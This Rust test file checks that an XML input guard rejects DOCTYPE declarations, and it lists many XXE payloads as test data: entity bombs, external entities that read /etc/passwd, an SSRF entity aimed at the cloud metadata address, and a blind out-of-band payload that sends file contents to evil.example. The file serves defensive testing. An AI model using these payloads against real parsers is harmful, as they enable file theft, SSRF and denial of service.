//! A DOCTYPE is refused wherever it stands, however permissive the policy;
//! near misses pass; `allow_doctype` admits only declarations that change
//! nothing.

use super::*;

fn billion_laughs() -> String {
    let mut dtd = String::from("<!ENTITY lol \"lol\">\n");
    for i in 1..=9 {
        let previous = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        let refs = format!("&{previous};").repeat(10);
        dtd.push_str(&format!("<!ENTITY lol{i} \"{refs}\">\n"));
    }
    format!("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n{dtd}]>\n<lolz>&lol9;</lolz>")
}

fn quadratic_blowup() -> String {
    let entity = "B".repeat(10_000);
    let refs = "&a;".repeat(1000);
    format!("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"{entity}\">]><r>{refs}</r>")
}

#[test]
fn doctype_is_always_rejected() {
    let long_comment = format!(
        "<!--{}--><!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
        " pad ".repeat(20_000)
    );
    let laughs = billion_laughs();
    let quadratic = quadratic_blowup();
    let cases: &[(&str, &str, &str)] = &[
        ("at the start", "<!DOCTYPE r><r/>", DOCTYPE),
        (
            "after the declaration",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE r><r/>",
            DOCTYPE,
        ),
        (
            "after comments and PIs",
            "<!-- a --><?pi x?>\n<!-- b --><!DOCTYPE r><r/>",
            DOCTYPE,
        ),
        ("after a long comment", &long_comment, DOCTYPE),
        ("after the root", "<r/><!DOCTYPE r>", DOCTYPE),
        (
            "after the root, with a subset",
            "<r/><!-- c --><!DOCTYPE r [<!ENTITY x 'y'>]>",
            DOCTYPE,
        ),
        ("inside the root", "<r><!DOCTYPE r></r>", DOCTYPE),
        (
            "deep inside",
            "<r><a><b>text<!DOCTYPE r SYSTEM 'x.dtd'></b></a></r>",
            DOCTYPE,
        ),
        ("inside nothing", "<!DOCTYPE r>", DOCTYPE),
        ("empty internal subset", "<!DOCTYPE r []>", DOCTYPE),
        ("lower case", "<!doctype r><r/>", DOCTYPE),
        ("mixed case", "<!DocType r><r/>", DOCTYPE),
        (
            "mixed case, subset",
            "<!dOcTyPe r [<!ENTITY x 'y'>]><r>&x;</r>",
            DOCTYPE,
        ),
        ("no white space", "<!DOCTYPEr[]><r/>", DOCTYPE),
        (
            "no white space, entity",
            "<!DOCTYPE r[<!ENTITY x SYSTEM'file:///etc/passwd'>]><r/>",
            DOCTYPE,
        ),
        (
            "CR LF and tab",
            "<!DOCTYPE\r\nr\tSYSTEM\n\"http://evil.example/x.dtd\"\r\n><r/>",
            DOCTYPE,
        ),
        (
            "CR LF in the subset",
            "<!DOCTYPE r [\r\n\t<!ENTITY\r\n\tx\tSYSTEM\r\n'file:///x'>\r\n]><r/>",
            DOCTYPE,
        ),
        (
            "two DOCTYPEs",
            "<!DOCTYPE r><!DOCTYPE r [<!ENTITY x 'y'>]><r/>",
            DOCTYPE,
        ),
        ("billion laughs", &laughs, DOCTYPE),
        ("quadratic blowup", &quadratic, DOCTYPE),
        (
            "entity in an attribute",
            "<!DOCTYPE r [<!ENTITY x 'y'>]><r a='&x;'/>",
            DOCTYPE,
        ),
        (
            "external SYSTEM file",
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            DOCTYPE,
        ),
        (
            "external SYSTEM http",
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><r>&x;</r>",
            DOCTYPE,
        ),
        (
            "external SYSTEM netdoc",
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"netdoc:/etc/passwd\">]><r>&x;</r>",
            DOCTYPE,
        ),
        (
            "external DTD, jar",
            "<!DOCTYPE r SYSTEM \"jar:http://evil.example/x.jar!/x.dtd\"><r/>",
            DOCTYPE,
        ),
        (
            "external DTD, no entity used",
            "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
            DOCTYPE,
        ),
        (
            "PUBLIC",
            "<!DOCTYPE r PUBLIC \"-//EVIL//DTD X//EN\" \"http://evil.example/x.dtd\"><r/>",
            DOCTYPE,
        ),
        (
            "parameter entity",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><r/>",
            DOCTYPE,
        ),
        (
            "blind out-of-band parameter entities",
            "<!DOCTYPE r [<!ENTITY % file SYSTEM \"file:///etc/hostname\"><!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://evil.example/?x=%file;'>\">%eval;%exfil;]><r/>",
            DOCTYPE,
        ),
        (
            "local DTD, error based",
            "<!DOCTYPE r [<!ENTITY % local SYSTEM \"file:///usr/share/yelp/dtd/docbookx.dtd\"><!ENTITY % ISOamso '<!ENTITY &#x25; file SYSTEM \"file:///etc/passwd\">'>%local;]><r/>",
            DOCTYPE,
        ),
        (
            "parameter laughs",
            "<!DOCTYPE r [<!ENTITY % a \"aaaa\"><!ENTITY % b \"%a;%a;%a;%a;\"><!ENTITY % c \"%b;%b;%b;%b;\">]><r/>",
            DOCTYPE,
        ),
        (
            "unparsed entity",
            "<!DOCTYPE r [<!NOTATION n SYSTEM \"x\"><!ENTITY u SYSTEM \"http://evil.example/x\" NDATA n><!ATTLIST r a ENTITY #IMPLIED>]><r a=\"u\"/>",
            DOCTYPE,
        ),
        (
            "ATTLIST default binding XInclude",
            "<!DOCTYPE r [<!ATTLIST r xmlns:xi CDATA #FIXED \"http://www.w3.org/2001/XInclude\">]><r><xi:include href=\"file:///etc/passwd\"/></r>",
            DOCTYPE,
        ),
        (
            "fake ]> in a subset comment",
            "<!DOCTYPE r [<!-- ]> --><!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            DOCTYPE,
        ),
        (
            "> and ] in entity literals",
            "<!DOCTYPE r [<!ENTITY x \"]>\"><!ENTITY y '>'>]><r>&x;</r>",
            DOCTYPE,
        ),
        (
            "after CDATA-looking text",
            "<r><![CDATA[ ]]> ]]&gt;</r><!DOCTYPE r>",
            DOCTYPE,
        ),
        // Java ends a PI at the first `?>`, whatever the quotes say.
        (
            "behind a PI with a quoted ?>",
            "<?pi a='?><!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\">'?><r/>",
            DOCTYPE,
        ),
        (
            "unclosed DOCTYPE",
            "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"",
            DOCTYPE,
        ),
        ("cut after the keyword", "<r><!DOCTYPE", DOCTYPE),
        // Java stops at the broken declaration, but a recovering parser
        // (libxml2's XML_PARSE_RECOVER skips to the next `>`) goes on to read
        // the DOCTYPE; the declaration must not swallow it.
        (
            "behind an unfinished XML declaration",
            "<?xml version=\"1.0\" ><!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><?x ?><r/>",
            MALFORMED,
        ),
        // Markup declarations outside a DOCTYPE are not markup at all.
        (
            "stray ENTITY declaration",
            "<!ENTITY x SYSTEM \"file:///etc/passwd\"><r/>",
            MALFORMED,
        ),
        (
            "stray ENTITY inside the root",
            "<r><!ENTITY x 'y'></r>",
            MALFORMED,
        ),
    ];
    check(&XmlPolicy::default(), cases);
    // However permissive the policy.
    let permissive = policy(|p| {
        p.allow_xslt = true;
        p.allow_absolute_stylesheets = true;
        p.schema_locations = SchemaLocations::Any;
        p.max_value_bytes = usize::MAX;
        p.max_depth = usize::MAX;
    });
    check(&permissive, cases);
}

#[test]
fn doctype_near_misses_pass() {
    check(
        &XmlPolicy::default(),
        &[
            (
                "escaped in text",
                "<r>&lt;!DOCTYPE r [&lt;!ENTITY x SYSTEM \"file:///x\"&gt;]&gt;</r>",
                OK,
            ),
            (
                "escaped in an attribute",
                "<r note=\"&lt;!DOCTYPE r&gt; &amp;x;\"/>",
                OK,
            ),
            (
                "the words in text",
                "<r>DOCTYPE ENTITY SYSTEM PUBLIC</r>",
                OK,
            ),
            (
                "CDATA holding a DTD",
                "<r><![CDATA[<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>]]></r>",
                OK,
            ),
            (
                "CDATA holding other markup",
                "<r><![CDATA[<xi:include href='x'/> <?xml-stylesheet href='http://x/y.xsl'?> &#0; & < ]] ]>]]></r>",
                OK,
            ),
            (
                "comment mentioning DOCTYPE",
                "<!-- no <!DOCTYPE r> here, nor &x; --><r><!-- <!ENTITY x 'y'> --></r>",
                OK,
            ),
            (
                "PI mentioning DOCTYPE",
                "<?note <!DOCTYPE r [<!ENTITY x 'y'>]> ?><r/>",
                OK,
            ),
            (
                "elements named DOCTYPE",
                "<DOCTYPE ENTITY=\"SYSTEM\"><ENTITY/></DOCTYPE>",
                OK,
            ),
        ],
    );
}

/// `[xml] allow_doctype`: a DOCTYPE whose internal subset only declares
/// elements and attribute lists passes; whatever a DTD can do to the
/// document (external subsets, entities, notations, parameter entities,
/// attribute defaults) is refused still.
#[test]
fn allow_doctype_admits_only_declarations_that_change_nothing() {
    let harmless = [
        ("bare", "<!DOCTYPE r><r/>"),
        (
            "element declarations",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n  <!ELEMENT r (a*)>\n  <!ELEMENT a (#PCDATA)>\n]>\n<r><a>x</a></r>",
        ),
        (
            "CDATA attribute lists without defaults",
            "<!DOCTYPE r [<!ATTLIST r id CDATA #REQUIRED kind CDATA #IMPLIED>]><r id=\"a\"/>",
        ),
        (
            "comments and processing instructions",
            "<!-- c --><!DOCTYPE r [<!-- inside --><?app data?>]><?after x?><r/>",
        ),
        ("name other than the root's", "<!DOCTYPE other><r/>"),
    ];
    let allowed = policy(|p| p.allow_doctype = true);
    let by_default: Vec<_> = harmless.iter().map(|&(n, d)| (n, d, DOCTYPE)).collect();
    check(&XmlPolicy::default(), &by_default);
    let passing: Vec<_> = harmless.iter().map(|&(n, d)| (n, d, OK)).collect();
    check(&allowed, &passing);
    check(
        &allowed,
        &[
            (
                "external subset",
                "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
                DOCTYPE,
            ),
            (
                "public identifier",
                "<!DOCTYPE r PUBLIC \"-//X//EN\" \"x.dtd\"><r/>",
                DOCTYPE,
            ),
            (
                "external entity",
                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
                DOCTYPE,
            ),
            (
                "entity bomb",
                "<!DOCTYPE r [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><r>&b;</r>",
                DOCTYPE,
            ),
            (
                "parameter entity",
                "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]><r/>",
                DOCTYPE,
            ),
            (
                "notation",
                "<!DOCTYPE r [<!NOTATION n SYSTEM \"http://evil.example/n\">]><r/>",
                DOCTYPE,
            ),
            (
                "default xmlns puts elements in XInclude",
                "<!DOCTYPE include [<!ATTLIST include xmlns CDATA #FIXED \"http://www.w3.org/2001/XInclude\" href CDATA #IMPLIED>]><include href=\"file:///etc/passwd\"/>",
                DOCTYPE,
            ),
            (
                "default schema location",
                "<!DOCTYPE r [<!ATTLIST r xsi:schemaLocation CDATA 'urn:x http://10.0.0.1/x.xsd'>]><r/>",
                DOCTYPE,
            ),
            (
                "NMTOKEN xmlns trims a disguised BPMN namespace",
                "<!DOCTYPE definitions [<!ATTLIST scriptTask xmlns NMTOKEN #IMPLIED>]><definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\"><process id=\"p\"><scriptTask xmlns=\" http://www.omg.org/spec/BPMN/20100524/MODEL\"/></process></definitions>",
                DOCTYPE,
            ),
            (
                "NMTOKEN xmlns:xi trims a disguised XInclude namespace",
                "<!DOCTYPE r [<!ATTLIST xi:include xmlns:xi NMTOKEN #IMPLIED>]><r><xi:include xmlns:xi=\" http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/></r>",
                DOCTYPE,
            ),
            (
                "ID attributes are normalised too",
                "<!DOCTYPE r [<!ATTLIST r id ID #IMPLIED>]><r id=\" a \"/>",
                DOCTYPE,
            ),
            (
                "enumerations are normalised too",
                "<!DOCTYPE r [<!ATTLIST r k (a|b) #IMPLIED>]><r k=\"a\"/>",
                DOCTYPE,
            ),
            ("lower-case doctype", "<!doctype r><r/>", DOCTYPE),
            (
                "undeclared entity reference",
                "<!DOCTYPE r [<!ELEMENT r ANY>]><r>&x;</r>",
                ENTITY,
            ),
            ("two DOCTYPEs", "<!DOCTYPE r><!DOCTYPE r><r/>", MALFORMED),
            ("after the root", "<r/><!DOCTYPE r>", MALFORMED),
            ("inside the root", "<r><!DOCTYPE r></r>", MALFORMED),
            ("not closed", "<!DOCTYPE r [<!ELEMENT r ANY>", MALFORMED),
            ("junk in the subset", "<!DOCTYPE r [r]><r/>", MALFORMED),
        ],
    );
    // The key in a policy file.
    let policy = input_guard::policy::Policy::from_toml("[xml]\nallow_doctype = true\n")
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(policy.xml.allow_doctype);
    assert!(!input_guard::policy::Policy::default().xml.allow_doctype);
}
